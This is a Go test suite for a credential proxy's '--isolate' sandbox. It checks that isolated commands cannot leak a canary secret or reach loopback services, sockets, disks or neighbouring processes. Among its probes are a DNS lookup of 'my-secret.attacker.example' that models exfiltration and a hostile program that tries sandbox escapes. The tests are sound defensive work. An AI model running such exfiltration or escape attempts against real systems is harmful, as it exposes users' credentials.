package main_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// host is a machine on which somebody without privileges runs authsome: a
// namespace with a network, services on its loopback, and a home with the
// canary for api.example.test in it.
type host struct {
	*pod
	user int
	home string
	dir  string // the user's own
}

func newHost(t *testing.T, user int) *host {
	t.Helper()
	h := &host{pod: newPod(t, newInternet(t)), user: user, dir: openDir(t)}
	h.home = filepath.Join(h.dir, "home")
	providers := filepath.Join(h.home, "providers")
	if err := os.MkdirAll(providers, 0o700); err != nil {
		t.Fatal(err)
	}
	for path, text := range map[string]string{filepath.Join(providers, "example.json"): exampleDefinition, filepath.Join(h.dir, "secret"): canary + "\n"} {
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if out, err := exec.Command("chown", "-R", fmt.Sprintf("%d:%d", user, user), h.dir).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v: %s", err, out)
	}
	// A name for the loopback, as who owns a domain can make one.
	hosts := "/etc/netns/" + h.name + "/hosts"
	b, err := os.ReadFile(hosts)
	if err == nil {
		err = os.WriteFile(hosts, append(b, "127.0.0.1 rebind.example.test\n"...), 0o644)
	}
	if err != nil {
		t.Fatal(err)
	}
	if out, err := h.try(nil, "login", "example", "--secret-file", filepath.Join(h.dir, "secret")); err != nil {
		t.Fatalf("login: %v: %s", err, out)
	}
	return h
}

// authsome prepares a run of the program as the user.
func (h *host) authsome(env []string, args ...string) *exec.Cmd {
	cmd := h.command(h.user, append([]string{"AUTHSOME_HOME=" + h.home, "HOME=" + h.dir, "TMPDIR=" + h.dir, "SSL_CERT_FILE=" + h.world.roots}, env...),
		append([]string{h.program}, args...)...)
	cmd.Dir = h.dir
	return cmd
}

// try runs it and returns all that it prints.
func (h *host) try(env []string, args ...string) (string, error) {
	h.t.Helper()
	out, err := h.authsome(env, args...).CombinedOutput()
	if strings.Contains(string(out), canary) {
		h.t.Errorf("%v: the secret is printed", args)
	}
	return string(out), err
}

// isolated runs a command behind run --isolate.
func (h *host) isolated(argv ...string) (string, error) {
	h.t.Helper()
	return h.try(nil, append([]string{"run", "--isolate", "--"}, argv...)...)
}

// Clients that know a proxy and clients that know none get the credential, over
// IPv4 and IPv6, in a namespace from which there is no other way.
func TestIsolatedClients(t *testing.T) {
	t.Parallel()
	h := newHost(t, agentUser)
	self := copyProgram(t, os.Args[0])
	java := openFile(t, "Get.java", `
import java.net.*; import java.net.http.*;
public class Get {
  public static void main(String[] a) throws Exception {
    System.out.println(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(a[0])).build(), HttpResponse.BodyHandlers.ofString()).body());
  }
}`)
	clients := []struct {
		name string
		argv []string
	}{
		{"curl", []string{tool(t, "curl"), "-sS", apiURL}},
		{"curl without the proxy", []string{tool(t, "curl"), "-sS", "--noproxy", "*", apiURL}},
		{"curl without the proxy, IPv6", []string{tool(t, "curl"), "-sS6", "--noproxy", "*", apiURL}},
		{"curl without the token", []string{tool(t, "sh"), "-c", `curl -sS -x "http://${HTTPS_PROXY##*@}" ` + apiURL}},
		{"python urllib3, bare", []string{"/usr/bin/python3", "-c",
			"import urllib3, os; print(urllib3.PoolManager(ca_certs=os.environ['SSL_CERT_FILE']).request('GET', '" + apiURL + "').data.decode())"}},
		{"node 20 fetch", []string{tool(t, "node"), "-e", "fetch('" + apiURL + "').then(r => r.text()).then(console.log)"}},
		{"go without a proxy", []string{"/usr/bin/env", fetchVariable + "=" + apiURL, self}},
		{"go over IPv6", []string{"/usr/bin/env", fetchVariable + "=" + apiURL, fetchNetwork + "=tcp6", self}},
		{"java", []string{tool(t, "java"), java, apiURL}},
	}
	for _, c := range clients {
		t.Run(c.name, func(t *testing.T) {
			out, err := h.isolated(c.argv...)
			if err != nil || !strings.Contains(out, "welcome api.example.test") {
				t.Errorf("got %v: %s\nwant the origin's welcome", err, out)
			}
		})
	}
	t.Run("elsewhere, unseen", func(t *testing.T) {
		out, err := h.isolated(tool(t, "curl"), "-sS", "--noproxy", "*", "--cacert", h.world.roots, "https://www.elsewhere.example.test/")
		if err != nil || !strings.Contains(out, "who are you? www.elsewhere.example.test") {
			t.Errorf("got %v: %s\nwant the origin's answer, with its own certificate", err, out)
		}
	})
	t.Run("plaintext, without a credential", func(t *testing.T) {
		out, err := h.isolated(tool(t, "curl"), "-sS", "--noproxy", "*", "http://api.example.test/")
		if err != nil || !strings.Contains(out, "who are you? api.example.test") {
			t.Errorf("got %v: %s\nwant the origin's question", err, out)
		}
	})
	out, err := h.try(nil, "log", "--event", "inject", "-n", "0")
	if got := strings.Count(out, "inject"); err != nil || got != len(clients) {
		t.Errorf("audit: %d injections for %d clients: %s", got, len(clients), out)
	}
}

// services are what a hostile program looks for on the machine.
func (h *host) services() *outside {
	t := h.t
	t.Helper()
	answer := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "who are you?\n") })
	serve := func(l net.Listener) {
		server := &http.Server{Handler: answer}
		go server.Serve(l)
		t.Cleanup(func() { server.Close() })
	}
	o := &outside{Home: h.home, Program: h.program, Writable: filepath.Join(h.dir, "writable"), Netns: "/run/netns/" + h.name, Disk: "/dev/vda"}
	l := h.listen(":0")
	serve(l)
	_, port, _ := net.SplitHostPort(l.Addr().String())
	o.Loopback, o.Own = "127.0.0.1:"+port, "10.77.0.2:"+port
	serve(h.listen(":80"))
	h.serveTLS()

	o.Abstract = "authsome-test-" + h.name
	o.Socket = filepath.Join(h.dir, "a socket")
	for _, address := range []string{"@" + o.Abstract, o.Socket} {
		var l net.Listener
		if err := h.do(func() (err error) { l, err = net.Listen("unix", address); return err }); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				c.Write([]byte("x"))
				c.Close()
			}
		}()
	}
	if err := os.Chmod(o.Socket, 0o777); err != nil {
		t.Fatal(err)
	}

	// What is mounted twice.
	o.Alias, o.Proc = filepath.Join(openDir(t), "home"), openDir(t)
	mountAt(t, filepath.Dir(h.home), filepath.Dir(o.Alias), "none", syscall.MS_BIND)
	mountAt(t, "proc", o.Proc, "proc", 0)

	sleep := h.command(h.user, nil, tool(t, "sleep"), "600")
	if err := sleep.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sleep.Process.Kill(); sleep.Wait() })
	o.Neighbour = sleep.Process.Pid
	if err := os.Mkdir(o.Writable, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(o.Writable, h.user, h.user); err != nil {
		t.Fatal(err)
	}
	return o
}

func (h *host) serveTLS() {
	l := h.listen(":443")
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "who are you?\n") })}
	server.TLSConfig = h.world.tls.Clone()
	go server.ServeTLS(l, "", "")
	h.t.Cleanup(func() { server.Close() })
}

func mountAt(t *testing.T, from, to, kind string, flags uintptr) {
	t.Helper()
	if err := syscall.Mount(from, to, kind, flags, ""); err != nil {
		t.Fatalf("mount %s: %v", to, err)
	}
	t.Cleanup(func() { syscall.Unmount(to, syscall.MNT_DETACH) })
}

// hostile runs all escapes behind authsome and returns how each ended.
func (h *host) hostile(o *outside, args ...string) map[string]string {
	t := h.t
	t.Helper()
	known, err := json.Marshal(o)
	if err != nil {
		t.Fatal(err)
	}
	self := filepath.Join(h.dir, "hostile")
	cmd := h.authsome(nil, slices.Concat([]string{"run"}, args, []string{"--", "/usr/bin/env", escapesVariable + "=" + string(known), self})...)
	read, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer read.Close() // until then somebody can be written to
	defer w.Close()
	cmd.ExtraFiles = []*os.File{w, w, w, w, w} // 3 to 7
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("%v: %v: %s", args, err, stderr.String())
	}
	results := make(map[string]string)
	for line := range strings.Lines(stdout.String()) {
		way, result, _ := strings.Cut(strings.TrimSuffix(line, "\n"), "\t")
		results[way] = result
	}
	for _, e := range escapes {
		if results[e.way] == "" {
			t.Fatalf("%s was not tried:\n%s%s", e.way, stdout.String(), stderr.String())
		}
	}
	return results
}

// A hostile command tries every way out. Each is closed, and each that can be is
// shown to be open without isolation.
func TestNoWayOut(t *testing.T) {
	for _, user := range []int{agentUser, 0} {
		t.Run(fmt.Sprintf("user %d", user), func(t *testing.T) {
			t.Parallel()
			h := newHost(t, user)
			o := h.services()
			b, err := os.ReadFile(os.Args[0])
			if err == nil {
				err = os.WriteFile(filepath.Join(h.dir, "hostile"), b, 0o755)
			}
			if err != nil {
				t.Fatal(err)
			}
			for way, result := range h.hostile(o) {
				i := slices.IndexFunc(escapes, func(e wayOut) bool { return e.way == way })
				is := escapes[i].open
				if result != "REACHED" && (is == always || is == rootsOnly && user == 0) {
					t.Errorf("without isolation: %s: %s: the test shows nothing", way, result)
				}
			}
			h.world.forget()
			for _, egress := range []string{"allow", "deny"} {
				for way, result := range h.hostile(o, "--isolate", "--egress", egress) {
					if !strings.HasPrefix(result, "stopped: ") {
						t.Errorf("egress %s: %s: %s", egress, way, result)
					}
				}
			}
			if seen := h.world.seen(); seen != "" {
				t.Errorf("an origin saw: %s", seen)
			}
		})
	}
}

// resolver is a name server on the machine's loopback that notes what it is
// asked.
func (h *host) resolver() (asked func() string) {
	var c net.PacketConn
	if err := h.do(func() (err error) { c, err = net.ListenPacket("udp", "127.0.0.1:53"); return err }); err != nil {
		h.t.Fatal(err)
	}
	h.t.Cleanup(func() { c.Close() })
	names := make(chan string, 100)
	go func() {
		buf := make([]byte, 512)
		for {
			n, from, err := c.ReadFrom(buf)
			if err != nil {
				return
			}
			var m dnsmessage.Message
			if m.Unpack(buf[:n]) != nil || len(m.Questions) != 1 {
				continue
			}
			names <- m.Questions[0].Name.String()
			m.Response, m.Additionals, m.RCode = true, nil, dnsmessage.RCodeNameError
			if b, err := m.Pack(); err == nil {
				c.WriteTo(b, from)
			}
		}
	}()
	return func() string {
		var all []string
		for {
			select {
			case name := <-names:
				all = append(all, name)
			default:
				return strings.Join(all, " ")
			}
		}
	}
}

// Names that may not be reached are not looked up: a question is a way out.
func TestNamesAreNoWayOut(t *testing.T) {
	t.Parallel()
	h := newHost(t, agentUser)
	asked := h.resolver()
	look := func(args ...string) string {
		t.Helper()
		out, err := h.try(nil, slices.Concat([]string{"run", "--isolate"}, args, []string{"--", "/usr/bin/python3", "-c", `
import socket
def ask(n):
    try: print(n, socket.getaddrinfo(n, 443, socket.AF_INET)[0][4][0])
    except socket.gaierror as e: print(n, e.errno == socket.EAI_NONAME and "none" or e.errno == socket.EAI_AGAIN and "again" or e)
ask("my-secret.attacker.example")
ask("api.example.test")
ask("other.allowed.example")
`})...)
		if err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		return out
	}
	out := look()
	if got := asked(); !strings.Contains(got, "my-secret.attacker.example.") || !strings.Contains(out, "my-secret.attacker.example none") {
		t.Errorf("egress allowed: asked %q, answered %s", got, out)
	}
	out = look("--egress", "deny", "--allow-host", "*.allowed.example")
	if got := asked(); strings.Contains(got, "attacker") || !strings.Contains(got, "other.allowed.example.") {
		t.Errorf("egress denied: asked %q", got)
	}
	for _, want := range []string{"my-secret.attacker.example again", "api.example.test " + apiAddr4, "other.allowed.example 192.0.2.1"} {
		if !strings.Contains(out, want) {
			t.Errorf("egress denied: answered %s, want %s", out, want)
		}
	}
}

// The environment names no way out, and the trust files can be read.
func TestIsolatedEnvironment(t *testing.T) {
	t.Parallel()
	h := newHost(t, agentUser)
	runtime := filepath.Join(h.dir, "runtime")
	if err := os.Mkdir(runtime, 0o777); err != nil {
		t.Fatal(err)
	}
	os.Chmod(runtime, 0o777)
	out, err := h.try([]string{"SSH_AUTH_SOCK=/tmp/agent", "DBUS_SESSION_BUS_ADDRESS=unix:path=/x", "XDG_RUNTIME_DIR=" + runtime, "TMPDIR=" + runtime, "OTHER=kept"},
		"run", "--isolate", "--", "sh", "-c", `env; head -c 27 "$SSL_CERT_FILE"; ls -A "`+runtime+`"; touch "`+runtime+`/x"`)
	if err == nil || strings.Contains(out, "SSH_AUTH_SOCK") || strings.Contains(out, "DBUS_") || strings.Contains(out, "XDG_RUNTIME_DIR=") {
		t.Errorf("got %v, %s", err, out)
	}
	for _, want := range []string{"OTHER=kept", "EXAMPLE_API_KEY=authsome-proxy-managed", "-----BEGIN CERTIFICATE-----", "Read-only file system"} {
		if !strings.Contains(out, want) {
			t.Errorf("want %s in %s", want, out)
		}
	}
}

// Files that open the vault are hidden too, wherever they are.
func TestIsolationHidesKeyFiles(t *testing.T) {
	t.Parallel()
	h := newHost(t, agentUser)
	key := openFile(t, "key", "the key")
	for _, isolate := range []bool{false, true} {
		args := []string{"run", "--", "cat", key}
		if isolate {
			args = slices.Insert(args, 1, "--isolate")
		}
		out, err := h.try([]string{"AUTHSOME_PASSPHRASE_FILE=" + key}, args...)
		if err != nil || strings.Contains(out, "the key") == isolate {
			t.Errorf("isolated %t: %v: %s", isolate, err, out)
		}
	}
}

// What is hidden cannot be where the command is, or what it is.
func TestIsolationHidesWhatIsNeeded(t *testing.T) {
	t.Parallel()
	h := newHost(t, agentUser)
	if err := os.WriteFile(filepath.Join(h.home, "program"), []byte("#!/bin/sh\necho ran\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.Chown(filepath.Join(h.home, "program"), h.user, h.user)
	for _, c := range []struct {
		name, dir string
		argv      []string
		want      string
	}{
		{"working in the home", h.home, []string{"pwd"}, "the working directory, " + h.home + ", is in what --isolate hides"},
		{"a command in the home", h.dir, []string{filepath.Join(h.home, "program")}, "the command, " + filepath.Join(h.home, "program") + ", is in what --isolate hides"},
	} {
		cmd := h.authsome(nil, append([]string{"run", "--isolate", "--"}, c.argv...)...)
		cmd.Dir = c.dir
		out, err := cmd.CombinedOutput()
		var ended *exec.ExitError
		if !errors.As(err, &ended) || ended.ExitCode() != 125 || !strings.Contains(string(out), c.want) {
			t.Errorf("%s: got %v, %s", c.name, err, out)
		}
	}
	// The home is below where the command works: it is empty, and the rest is there.
	out, err := h.isolated("sh", "-c", "ls -A home; ls secret; echo written > new; cat new")
	if err != nil || out != "secret\nwritten\n" {
		t.Errorf("got %v, %s", err, out)
	}
}

// Where the kernel forbids namespaces the error names the setting.
func TestIsolationForbidden(t *testing.T) {
	t.Parallel()
	h := newHost(t, agentUser)
	unshare := func(script string) (string, int) {
		t.Helper()
		cmd := h.authsome([]string{"A=" + h.program})
		i := slices.Index(cmd.Args, h.program)
		cmd.Args = append(cmd.Args[:i:i], "unshare", "-Ur", "sh", "-c", script)
		out, _ := cmd.CombinedOutput()
		return string(out), cmd.ProcessState.ExitCode()
	}
	for _, kind := range []string{"user", "net", "mnt", "pid", "ipc"} {
		setting := "user.max_" + kind + "_namespaces"
		limit := "echo 0 > /proc/sys/user/max_" + kind + "_namespaces; "
		out, code := unshare(limit + `"$A" run --isolate true`)
		if code != 125 || !strings.Contains(out, setting+" is 0") || !strings.Contains(out, "sysctl "+setting+"=") {
			t.Errorf("%s: exit %d: %s", setting, code, out)
		}
		if out, code := unshare(limit + `"$A" doctor --no-clients`); code != 0 || !strings.Contains(out, "run --isolate does not work here") || !strings.Contains(out, setting) {
			t.Errorf("%s: doctor: exit %d: %s", setting, code, out)
		}
	}
	if out, code := unshare(`"$A" run --isolate echo nested`); code != 0 || !strings.Contains(out, "nested\n") {
		t.Errorf("in a user namespace: exit %d: %s", code, out)
	}
	// An isolated command finds no home. It can isolate in turn, with another.
	out, err := h.isolated(h.program, "run", "--isolate", "true")
	if err == nil || !strings.Contains(out, "read-only file system") {
		t.Errorf("isolated twice: %v: %s", err, out)
	}
	out, err = h.isolated("env", "AUTHSOME_HOME="+filepath.Join(h.dir, "another"), h.program, "run", "--isolate", "echo", "nested")
	if err != nil || !strings.Contains(out, "nested\n") {
		t.Errorf("isolated twice, with another home: %v: %s", err, out)
	}
	if out, err := h.try(nil, "doctor", "--no-clients"); err != nil || !strings.Contains(out, "run --isolate works here") {
		t.Errorf("doctor: %v: %s", err, out)
	}
}

// When authsome is killed outright everything inside ends; and when the command
// ends, so does what it has started.
func TestNothingOutlivesIsolation(t *testing.T) {
	w := newWorld(t)
	w.login(exampleDefinition, "example")
	alive := func(mark string) bool {
		return exec.Command("pgrep", "-f", mark).Run() == nil
	}
	for i, end := range []func(*started){
		func(s *started) { s.cmd.Process.Kill() },
		func(s *started) { s.say("end") },
	} {
		mark := fmt.Sprintf("%d.%d0117", 6000+i, os.Getpid())
		run := w.start("run", "--isolate", "--", "sh", "-c", "(setsid sleep "+mark+" </dev/null >/dev/null 2>&1 &) ; sleep 0.1; echo ready; read end")
		eventually(t, "what the command started runs", func() bool { return alive("sleep " + mark) }, func() string { return run.stderr.String() })
		end(run)
		run.cmd.Wait()
		eventually(t, "nothing is left", func() bool { return !alive("sleep " + mark) }, func() string { return "" })
	}
	w.must("run", "true") // sweeps
	w.leavesNothing()
}

// An isolated command is one like others: its exit code, its streams, its signals.
func TestIsolatedCommandIsLikeOthers(t *testing.T) {
	w := newWorld(t)
	w.login(exampleDefinition, "example")
	text := file(t, t.TempDir(), "text", "\x7fELF is what this is not\n")
	if err := os.Chmod(text, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		argv []string
		code int
	}{
		{[]string{"true"}, 0}, {[]string{"sh", "-c", "exit 3"}, 3}, {[]string{"sh", "-c", "kill -9 $$"}, 137}, {[]string{"sh", "-c", "ulimit -c 0; kill -QUIT $$"}, 131},
		{[]string{"no-such-command"}, 127}, {[]string{"/etc/passwd"}, 126}, {[]string{text}, 126},
		{[]string{"sh", "-c", "kill -TERM 1; kill -KILL 1; kill -INT 1; exit 4"}, 4},
	} {
		plain, isolated := w.authsome(append([]string{"run", "--"}, c.argv...)...), w.authsome(append([]string{"run", "--isolate", "--"}, c.argv...)...)
		if strings.Contains(strings.Join(c.argv, " "), "kill -TERM 1") {
			plain = isolated // that is for a pid 1 of its own
		}
		if isolated.code != c.code || plain.code != c.code || isolated.stderr != plain.stderr {
			t.Errorf("%v: exit %d and %d without, want %d: %q and %q", c.argv, isolated.code, plain.code, c.code, isolated.stderr, plain.stderr)
		}
	}
	r := w.run(w.command([]string{"ODD=\xff\xfe", "EMPTY="}, "run", "--isolate", "--", "sh", "-c", `cat; printf '%s|' "$@" "$ODD" "${EMPTY-unset}" >&2`, "sh", "", "a b", "\xff", "--isolate"), "in")
	if r.stdout != "in" || r.stderr != "|a b|\xff|--isolate|\xff\xfe||" {
		t.Errorf("streams and arguments: %q %q", r.stdout, r.stderr)
	}
	run := w.start("run", "--isolate", "--", "sh", "-c", traps)
	for _, s := range []struct {
		sig  syscall.Signal
		want string
	}{{syscall.SIGUSR1, "got USR1"}, {syscall.SIGQUIT, "got QUIT"}, {syscall.SIGUSR2, "got USR2"}} {
		run.cmd.Process.Signal(s.sig)
		if got := run.line(); got != s.want {
			t.Errorf("the child said %q, want %q", got, s.want)
		}
	}
	run.cmd.Process.Signal(syscall.SIGTERM)
	if code, rest := run.wait(); code != 3 || rest != "got TERM\n" {
		t.Errorf("exit %d, the child said %q", code, rest)
	}
	w.leavesNothing()
	if log := w.must("log", "--event", "run.end", "-n", "0").stdout; !strings.Contains(log, "exit 137") {
		t.Errorf("the audit log has no end with code 137:\n%s", log)
	}
}

// Killed before the command is there, an isolated run leaves nothing.
func TestEarlySignalIsolated(t *testing.T) {
	w := newWorld(t)
	w.login(exampleDefinition, "example")
	for delay := time.Duration(0); delay < 80*time.Millisecond; delay += 8 * time.Millisecond {
		cmd := w.command(nil, "run", "--isolate", "--", "sleep", "60")
		cmd.Stderr = &bytes.Buffer{}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(delay)
		cmd.Process.Signal(syscall.SIGTERM)
		timer := time.AfterFunc(patience, func() { cmd.Process.Kill() })
		cmd.Wait()
		timer.Stop()
		status := cmd.ProcessState.Sys().(syscall.WaitStatus)
		if code := cmd.ProcessState.ExitCode(); code != 8 && code != 143 && status.Signal() != syscall.SIGTERM {
			t.Errorf("after %v: exit %d %v\n%s", delay, code, status.Signal(), cmd.Stderr)
		}
	}
	w.leavesNothing()
}
